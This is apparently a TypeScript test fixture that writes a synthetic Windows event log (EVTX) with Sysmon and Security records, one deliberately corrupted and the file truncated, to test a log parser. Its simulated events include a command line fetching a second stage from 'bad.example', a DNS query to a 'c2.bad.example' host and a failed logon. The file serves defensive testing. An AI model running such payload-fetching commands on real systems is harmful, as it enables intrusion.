import { writeFileSync } from "node:fs";
import { fileURLToPath } from "node:url";
import { EvtxWriter, type Node, nothing, number, text, type Typed } from "./evtx-writer.ts";

/** Where the sample lies; `node -C source test/evtx-sample.ts` writes it anew. */
export const samplePath: string = fileURLToPath(new URL("../src/telemetry/evtx/sample.evtx", import.meta.url));

const data = (...names: readonly string[]): Node => ({
  name: "EventData",
  children: names.map((name, i) => ({
    name: "Data",
    attributes: [["Name", name] as const],
    children: [{ hole: i, optional: true }],
  })),
});

/** Everything but the data, which the last value brings with a template of its own, as in the files of Windows. */
const event = (provider: string, channel: string): Node => ({
  name: "Event",
  attributes: [["xmlns", "http://schemas.microsoft.com/win/2004/08/events/event"]],
  children: [
    {
      name: "System",
      children: [
        { name: "Provider", attributes: [["Name", provider]] },
        { name: "EventID", children: [{ hole: 0, optional: true, type: 0x06 }] },
        { name: "TimeCreated", attributes: [["SystemTime", { hole: 1, optional: true, type: 0x11 }]] },
        { name: "EventRecordID", children: [{ hole: 2, optional: true, type: 0x0a }] },
        { name: "Channel", children: [channel] },
        { name: "Computer", children: ["ws7.parks.example"] },
      ],
    },
    { hole: 3, optional: true, type: 0x21 },
  ],
});

/** 100 ns since 1601, of 2026-11-19T08:00:00Z and so many seconds. */
const ticks = (seconds: number): bigint =>
  (BigInt(Date.UTC(2026, 10, 19, 8, 0, seconds)) + 11_644_473_600_000n) * 10_000n;

const head = (id: number, record: number): readonly Typed[] => [
  number(0x06, 2, BigInt(id)),
  number(0x11, 8, ticks(record)),
  number(0x0a, 8, BigInt(record)),
];

/** Three records as Windows writes them, one with damaged bytes among them, cut off where a full disk would. */
export const sampleEvtx = (): Buffer => {
  const sysmon = "Microsoft-Windows-Sysmon";
  const operational = `${sysmon}/Operational`;
  const writer = new EvtxWriter();
  const write = (id: number, record: number, of: Node, values: Readonly<Record<string, Typed>>): void => {
    writer.recordWith(of, head(id, record), data(...Object.keys(values)), Object.values(values), ticks(record));
  };
  const sysmonEvent = event(sysmon, operational);
  write(1, 1, sysmonEvent, {
    RuleName: nothing,
    Image: text("C:\\Temp\\a.exe"),
    CommandLine: text("a.exe --fetch https://bad.example/stage2"),
    User: text("PARKS\\chan"),
    Hashes: text("MD5=0123456789abcdef0123456789abcdef,IMPHASH=00112233445566778899aabbccddeeff"),
  });
  write(3, 2, sysmonEvent, {
    Image: text("C:\\Temp\\a.exe"),
    SourceIp: text("192.0.2.14"),
    SourcePort: number(0x06, 2, 50_111n),
    DestinationIp: text("203.0.113.7"),
    DestinationPort: number(0x06, 2, 443n),
  });
  write(22, 3, sysmonEvent, { QueryName: text("c2.bad.example") });
  write(4625, 4, event("Microsoft-Windows-Security-Auditing", "Security"), {
    TargetUserName: text("lo"),
    LogonType: number(0x08, 4, 3n),
    IpAddress: text("198.51.100.23"),
    IpPort: text("51000"),
  });
  const file = writer.file();
  let end = 4096 + 512;
  const starts: number[] = [];
  while (file.readUInt32LE(end) === 0x2a2a) {
    starts.push(end);
    end += file.readUInt32LE(end + 4);
  }
  // the third record: an element's start becomes nothing that is known
  file[(starts[2] ?? 0) + 24] = 0x3f;
  return file.subarray(0, end);
};

if (process.argv[1] === fileURLToPath(import.meta.url)) writeFileSync(samplePath, sampleEvtx());
